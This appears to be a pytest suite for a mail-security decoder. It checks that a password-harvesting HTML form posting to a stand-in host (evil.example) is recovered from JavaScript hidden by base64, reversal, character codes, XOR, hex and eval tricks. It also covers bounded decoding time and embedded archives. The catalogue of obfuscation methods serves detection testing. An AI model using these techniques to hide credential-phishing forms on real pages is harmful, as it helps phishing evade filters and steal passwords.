"""Literals are decoded by their form, hostile ones in bounded time."""

from __future__ import annotations

import time
from base64 import b64encode
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from firstsight.mail.inside.literals import MAX_OUT, MAX_PIECES, decoded, files, packed, pieces

FORM = '<form action="https://evil.example/x"><input type=password>'


def numbers(text: str, shift: int = 0, mask: int = 0) -> str:
    return "[" + ",".join(str((ord(c) ^ mask) + shift) for c in text) + "]"


@pytest.mark.parametrize(
    "script",
    [
        f'w(atob("{b64encode(FORM.encode()).decode()}"))',
        f'w(atob("{b64encode(FORM.encode()).decode()[::-1]}"))',
        f"w(String.fromCharCode.apply(null, {numbers(FORM)}))",
        f"x={numbers(FORM, 3)};x.map(c => String.fromCharCode(c - 3))",
        f"x={numbers(FORM, mask=77)};x.map(c => String.fromCharCode(c ^ 77))",
        'w(unescape("' + "".join(f"%{ord(c):02x}" for c in FORM) + '"))',
        "w('" + "".join(f"\\x{ord(c):02x}" for c in FORM) + "')",
        "w('" + "' + '".join(FORM) + "')",
        f"w('{FORM[::-1]}'.split('').reverse().join(''))",
        f"w(`{FORM}`)",
    ],
    ids=["atob", "atob-reversed", "codes", "shifted", "xor", "percent", "hex", "joined", "reversed", "template"],
)
def test_a_form_is_found_however_it_is_packed(script: str) -> None:
    assert FORM in decoded(script)


def test_words_and_numbers_of_ordinary_scripts_say_nothing() -> None:
    assert decoded('var t = "Hello world, this is a table"; var a = [1, 2, 3]; f("abcdefghijklmnopqrst");') == []
    assert decoded("var x = [" + ",".join(str(n) for n in range(400)) + "]") == []


@pytest.mark.parametrize(
    "script", ['"' * 262_144, "1," * 131_072, '"a"+' * 60_000, "`" * 99_999 + "\\", "0x1," * 65_000]
)
def test_hostile_scripts_take_bounded_time_and_room(script: str) -> None:
    start = time.process_time()
    assert sum(map(len, decoded(script))) <= MAX_OUT
    assert time.process_time() - start < 3.0


@given(st.text(max_size=500))
def test_any_text_gives_an_answer(script: str) -> None:
    assert decoded(script) == decoded(script)


WHOLE = '<form action="https://evil.example/x"><input type="password"></form>'
PACKED = b64encode(WHOLE.encode()).decode()


def codes(shift: int = 0, mask: int = 0) -> str:
    """The form as numbers with commas between."""
    return ",".join(str((ord(letter) + shift) ^ mask) for letter in WHOLE)


@pytest.mark.parametrize(
    "script",
    [
        f"document.write(atob('{PACKED}'))",
        f"document.write(atob('{PACKED[:20]}' + \"{PACKED[20:]}\"))",
        f"document.write(atob('{PACKED[::-1]}'.split('').reverse().join('')))",
        f"document.write(unescape('{quote(WHOLE)}'))",
        f"document.write(unescape(atob('{b64encode(quote(WHOLE).encode()).decode()}')))",
        "document.write(unescape('" + "".join(f"%u{ord(letter):04x}" for letter in WHOLE) + "'))",
        "x.innerHTML = '" + "".join(f"\\x{ord(letter):02x}" for letter in WHOLE) + "'",
        f"x.innerHTML = '{WHOLE[:9]}' +\n '{WHOLE[9:]}'",
        f"x.innerHTML = ['{WHOLE[:9]}', '{WHOLE[9:40]}', '{WHOLE[40:]}'].join('')",
        f"x.innerHTML = '{WHOLE[::-1]}'.split('').reverse().join('')",
        f"String.fromCharCode({codes()})",
        f"[{codes(7)}].map(n => String.fromCharCode(n - 7))",
        f"[{codes(4711)}].map(n => String.fromCharCode(n - 4711))",
        f"[{codes(mask=90)}].map(n => String.fromCharCode(n ^ 90))",
        f"// don't\nx.innerHTML = `{WHOLE}`",
        "s = '';" + "".join(f"s += '{WHOLE[at : at + 7]}';" for at in range(0, len(WHOLE), 7)) + "w(s)",
        f"w('{WHOLE.encode().hex()}'.match(/../g).map(h => String.fromCharCode(parseInt(h, 16))).join(''))",
        "w(unescape('" + "".join(f"~{ord(letter):02x}" for letter in WHOLE) + "'.replace(/~/g, '%')))",
    ],
)
def test_what_was_taken_apart_comes_out(script: str) -> None:
    assert WHOLE in decoded(script)


@pytest.mark.parametrize(
    "script",
    [
        "",
        "var total = 1 + 2; alert('Good morning, everybody')",
        f"var data = [{','.join(map(str, range(200)))}]",
        "'%zz%'",
    ],
)
def test_ordinary_scripts_give_nothing(script: str) -> None:
    assert decoded(script) == []


def test_a_script_in_a_literal_comes_out() -> None:
    inner = f"document.write(atob('{PACKED}'))"
    assert decoded(f"eval(atob('{b64encode(inner.encode()).decode()}'))") == [inner]


@pytest.mark.parametrize(
    "unit",
    ['"', '"\\', "`a\\", "'a", "\"'`", '"a"+', '"a",', "1,", "1  ,", "200,\n", '"%3c', "'\\\n", '"QUJDREVGR0hJSktM",'],
)
def test_a_million_characters_take_no_longer_than_a_second(unit: str) -> None:
    start = time.process_time()
    decoded(unit * (1_000_000 // len(unit)))
    assert time.process_time() - start < 3.0  # a fraction of it on an idle machine


@given(st.text(alphabet="\"'`\\+, 0x1u%3c<form&;\n=AQ", max_size=200))
def test_any_script_is_read_within_bounds(script: str) -> None:
    pieces = decoded(script)
    assert len(pieces) <= MAX_PIECES
    assert sum(map(len, pieces)) <= MAX_OUT


@given(st.text(max_size=80).filter(lambda text: text.isprintable()))
def test_base64_of_any_text_with_an_address_comes_out(text: str) -> None:
    text = "https://a.example/ " + text.replace("%", "").replace("&", "")
    assert text in decoded(f"atob('{b64encode(text.encode()).decode()}')")


@pytest.mark.parametrize(
    ("script", "hidden"),
    [
        (f"w('{WHOLE}')", False),
        (f"w('{WHOLE[:9]}' + '{WHOLE[9:]}')", False),
        ("w('\\x3cform\\x3e and words that stand there as they are')", False),
        ("w('" + "".join(f"\\x{ord(letter):02x}" for letter in WHOLE) + "')", True),
        (f"w(atob('{PACKED}'))", True),
        (f"[{codes(7)}]", True),
        (f"w('{WHOLE[::-1]}')", True),
    ],
)
def test_what_had_to_be_decoded_is_told_apart_from_what_stands_there(script: str, hidden: bool) -> None:
    assert [piece.hidden for piece in pieces(script)] == [hidden]


def test_an_archive_in_a_literal_is_a_file_and_a_picture_is_none() -> None:
    archive = b"PK\x03\x04" + bytes(90)
    picture = b"\x89PNG\r\n\x1a\n" + bytes(90)
    assert files(f"a('{b64encode(archive).decode()}'); b('{b64encode(picture).decode()}')") == [archive]
    assert files("a('UEsDBA==')") == []


def test_long_literals_and_lists_of_numbers_are_packed_and_pictures_are_not() -> None:
    assert packed(f"x('{'QUJD' * 100}')") == 400
    assert packed(f"x('iVBORw0KGgo{'QUJD' * 100}'); y('a sentence of words, ' + '{'word ' * 90}')") == 0
    assert packed(f"[{','.join(['200'] * 20)}]") == 79
